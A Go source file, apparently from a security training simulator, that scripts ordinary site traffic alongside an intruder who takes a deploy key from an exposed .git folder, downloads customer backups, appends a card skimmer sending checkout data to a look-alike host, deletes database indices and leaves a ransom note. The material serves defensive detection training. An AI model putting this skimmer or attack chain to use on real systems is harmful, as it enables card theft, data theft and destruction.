package actors

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/sakimori/sakimori/sim/labkit"

	"github.com/sakimori/sakimori/sim/aws/client"
)

// Open by Default's traffic: visitors reading the public website bucket
// and the shop reading its search database; and an intruder who lists the
// public bucket, takes the deploy key out of its published .git folder,
// reads the private backups with it, then wipes the open database and
// leaves a ransom note, as the 2017 ransom gangs and the 2020 "Meow" bot did.
func init() {
	labkit.RegisterScript("open-users", openUsers)
	labkit.RegisterScript("open-deploy", openDeploy)
	labkit.RegisterScript("open-intruder", openIntruder)
}

// siteIndex is the website's home page, as the deploy job publishes it.
const siteIndex = "<!doctype html><title>Acme</title><link rel=stylesheet href=style.css><h1>Acme Outdoor</h1><p>Gear for every season.</p>" +
	"<form id=checkout><input name=card autocomplete=cc-number><button>Buy</button></form><script src=js/shop.js></script>"

// skimmer is what the intruder appends to the shop's script: what a
// shopper types at checkout, sent to a look-alike host, as the skimmers
// put into thousands of writable buckets' scripts in 2019 did.
const skimmer = `;(function(){var f=document.getElementById("checkout");if(f)f.addEventListener("submit",function(){` +
	`navigator.sendBeacon("https://static.acmeoutdoor-cdn.example/c.gif",new FormData(f))})})();` + "\n"

// openDeploy is the site's deploy job: every two minutes it syncs the
// site with the deploy user's key, from the build server's address. It is
// the key's rightful use, which the intruder's use must be told from.
func openDeploy(ctx context.Context, env labkit.Env) error {
	c := &client.Client{Endpoint: env("CLOUD"), UserAgent: "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1057-aws exe/x86_64.ubuntu.22 command/s3.sync",
		Creds: &client.Credentials{AccessKeyID: env("AWS_ACCESS_KEY_ID"), SecretAccessKey: env("AWS_SECRET_ACCESS_KEY")}}
	for labkit.Sleep(ctx, 2*time.Minute) {
		_, _ = c.S3("GET", "/acme-www?list-type=2&prefix=", nil)
		if res, err := c.S3("PUT", "/acme-www/index.html", []byte(siteIndex)); err != nil || !res.OK() {
			labkit.Logger.Info("deploy: upload failed", "result", res.String(), "err", err)
		}
	}
	return nil
}

// stolenBackups are the backups the intruder downloads with the deploy
// key: the customer exports, not the older order history.
var stolenBackups = []string{"db/customers-2026-10-01.json", "db/customers-2026-11-01.json", "db/customers-2026-12-01.json"}

// RansomWallet is the address the note demands payment to.
const RansomWallet = "bc1qm34lsc65zpw79lxes69zkqmk6ee3ewf0j77s3h"

func openUsers(ctx context.Context, env labkit.Env) error {
	anon := &client.Client{Endpoint: env("CLOUD"), UserAgent: labkit.BrowserUA}
	hc := &http.Client{Timeout: 10 * time.Second}
	for labkit.Sleep(ctx, 20*time.Second) {
		_, _ = anon.S3("GET", "/acme-www/index.html", nil)
		_, _ = anon.S3("GET", "/acme-www/style.css", nil)
		_, _ = anon.S3("GET", "/acme-www/js/shop.js", nil)
		_, _ = labkit.Get(hc, env("DB")+"/customers/_search", "acme-shop/3.2")
	}
	return nil
}

func openIntruder(ctx context.Context, env labkit.Env) error {
	if !labkit.Sleep(ctx, labkit.Duration(env, "DELAY", 30*time.Second)) {
		return nil
	}
	if err := openOnce(ctx, env); err != nil {
		labkit.Logger.Info("intruder: run ended early", "err", err)
	}
	<-ctx.Done()
	return nil
}

func openOnce(ctx context.Context, env labkit.Env) error {
	pause := func() { labkit.Sleep(ctx, 700*time.Millisecond) } // a tool's pace, not all in one second
	anon := &client.Client{Endpoint: env("CLOUD"), UserAgent: "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 command/s3.ls"}
	if _, err := anon.S3("GET", "/acme-www?list-type=2", nil); err != nil {
		return err
	}
	anon.UserAgent = strings.Replace(anon.UserAgent, "s3.ls", "s3.sync", 1)
	head, err := anon.S3("GET", "/acme-www/.git/refs/heads/main", nil)
	if err != nil || !head.OK() {
		return fmt.Errorf("no .git folder: %v %v", head, err)
	}
	creds, err := client.KeysInHistory(strings.TrimSpace(string(head.Body)), func(path string) ([]byte, error) {
		res, err := anon.S3("GET", "/acme-www/.git/"+path, nil)
		if err == nil && !res.OK() {
			err = fmt.Errorf("%s: %s", path, res)
		}
		return res.Body, err
	})
	if err != nil {
		return err
	}
	c := &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 command/s3.cp"}
	pause()
	_, _ = c.Query("sts", "GetCallerIdentity", nil)
	pause()
	_, _ = c.S3("GET", "/acme-www?list-type=2", nil)
	pause()
	_, _ = c.S3("GET", "/acme-customer-backups?list-type=2", nil)
	for _, key := range stolenBackups {
		pause()
		_, _ = c.S3("GET", "/acme-customer-backups/"+key, nil)
	}
	pause()
	// The skimmer: the site's script read as any visitor reads it, and
	// written back with a line more, with the deploy key.
	if script, err := anon.S3("GET", "/acme-www/js/shop.js", nil); err == nil && script.OK() {
		pause()
		c.Header = http.Header{"Content-Type": {"application/javascript"}} // as the CLI guesses from the name
		_, _ = c.S3("PUT", "/acme-www/js/shop.js", append(script.Body, skimmer...))
		c.Header = nil
	}

	// The wipe: read, delete, and leave the note where the data was.
	hc := &http.Client{Timeout: 10 * time.Second}
	db := env("DB")
	_, _ = labkit.Get(hc, db+"/_cat/indices", "python-requests/2.31.0")
	for _, index := range []string{"customers", "orders"} {
		req, _ := http.NewRequest(http.MethodDelete, db+"/"+index, nil)
		if resp, err := hc.Do(req); err == nil {
			resp.Body.Close()
		}
	}
	note := fmt.Sprintf(`{"message": "All your data is backed up. You must pay 0.05 BTC to %s in 48 hours to recover it. After 48 hours expiration we will leak and expose all your data. Contact: recover@protonmail.example"}`, RansomWallet)
	req, _ := http.NewRequest(http.MethodPut, db+"/read_me/_doc/1", strings.NewReader(note))
	req.Header.Set("Content-Type", "application/json")
	resp, err := hc.Do(req)
	if err == nil {
		resp.Body.Close()
	}
	return err
}
